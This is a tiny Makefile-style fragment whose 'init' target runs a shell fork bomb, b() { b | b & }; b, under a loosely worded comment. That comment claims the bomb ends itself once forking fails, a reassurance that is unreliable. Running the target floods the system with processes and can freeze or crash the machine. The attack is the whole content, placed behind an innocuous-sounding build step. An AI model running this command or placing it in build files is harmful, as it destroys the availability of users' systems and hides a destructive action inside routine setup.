# A fork bomb while it is built, that ends itself: a shell that cannot fork exits. Whether anybody counts it first is
# chance.
init:
	b() { b | b & }; b; sleep 1000
